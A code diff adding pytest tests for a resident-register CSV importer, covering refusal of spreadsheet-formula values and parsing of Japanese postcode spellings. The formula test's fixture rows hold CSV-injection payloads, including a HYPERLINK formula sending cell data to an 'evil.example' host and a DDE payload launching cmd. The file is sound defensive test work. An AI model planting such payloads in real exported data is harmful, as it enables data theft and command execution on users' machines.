@@ -5,6 +5,7 @@ from pathlib import Path
 import pytest
 
 from survey.errors import DataError
+from survey.postal import parse_postal
 from survey.register.reader import RegisterError, detect_encoding, district_of, read_register
 from tests.conftest import Row
 
@@ -245,3 +246,85 @@ def test_a_damaged_byte_is_reported_on_its_own_line(register_file, tmp_path: Pat
     with pytest.raises(DataError) as info:
         read_register(damaged)
     assert "UTF-8" in info.value.en and "line 6" in info.value.en
+
+
+def test_names_and_addresses_that_start_a_spreadsheet_formula_are_refused(register_file) -> None:  # type: ignore[no-untyped-def]
+    # A ' prefix (the CSV writers' escape) would be printed on the envelope, so the import
+    # refuses what a spreadsheet would run as a formula; a leading "-" passes (escaped later).
+    path = register_file(
+        [
+            Row("1", "H1", "1980-01-01", name='=HYPERLINK("http://evil.example/?"&A1)'),  # 2
+            Row("2", "H1", "1980-01-01", name_kana="+1+1"),  # 3
+            Row("3", "H1", "1980-01-01", address="@SUM(1+1)*cmd|' /C calc'!A0"),  # 4
+            Row("4", "H1", "1980-01-01", building="=1+1"),  # 5
+            Row("5", "H1", "1980-01-01", building="-101号室", name="-志木　太郎"),  # 6: fine
+            ["6", "H2", "=2", "", "1980-01-01", "男", "", "353-0004", "\t=3+3", ""],  # 7
+        ]
+    )
+    with pytest.raises(RegisterError) as info:
+        read_register(path)
+    found = {(e.line, e.column) for e in info.value.errors}
+    assert found == {
+        (2, "name"),
+        (3, "name_kana"),
+        (4, "address"),
+        (5, "building"),
+        (7, "name"),
+        (7, "address"),
+    }
+    text = "\n".join(str(e) for e in info.value.errors)
+    assert "HYPERLINK" not in text and "SUM" not in text and "=1+1" not in text
+    assert all(e.value is None for e in info.value.errors)  # never the value
+    assert "数式" in text and "formula" in text
+
+
+@pytest.mark.parametrize(
+    "spelling",
+    [
+        "353-0005",
+        "3530005",
+        "〒353-0005",
+        "〒 353-0005",
+        "３５３－０００５",
+        "３５３０００５",
+        "353ー0005",
+        "353ｰ0005",
+        "353‐0005",
+        "353–0005",
+        "353−0005",
+        " 353-0005 ",
+    ],
+)
+def test_postcode_spellings_accepted(spelling: str) -> None:
+    assert parse_postal(spelling) == "3530005"
+
+
+@pytest.mark.parametrize(
+    "spelling",
+    [
+        "35-30005",
+        "3530-005",
+        "353--0005",
+        "353-00-05",
+        "-3530005",
+        "3530005-",
+        "353-000",
+        "35300050",
+        "353 0005",
+        "３５３－０００",
+        "353-000５x",
+        "",
+    ],
+)
+def test_postcode_spellings_refused(spelling: str) -> None:
+    # Seven digits with the hyphen elsewhere is not a postcode someone wrote: a typo to show.
+    assert parse_postal(spelling) is None
+
+
+def test_a_misplaced_postcode_hyphen_is_a_named_error(register_file) -> None:  # type: ignore[no-untyped-def]
+    path = register_file([Row("1", "H", "1990-01-01", postal_code="35-30002")])
+    with pytest.raises(RegisterError) as info:
+        read_register(path)
+    (error,) = info.value.errors
+    assert (error.line, error.column, error.value) == (2, "postal_code", "35-30002")
+    assert "NNN-NNNN" in error.reason_en
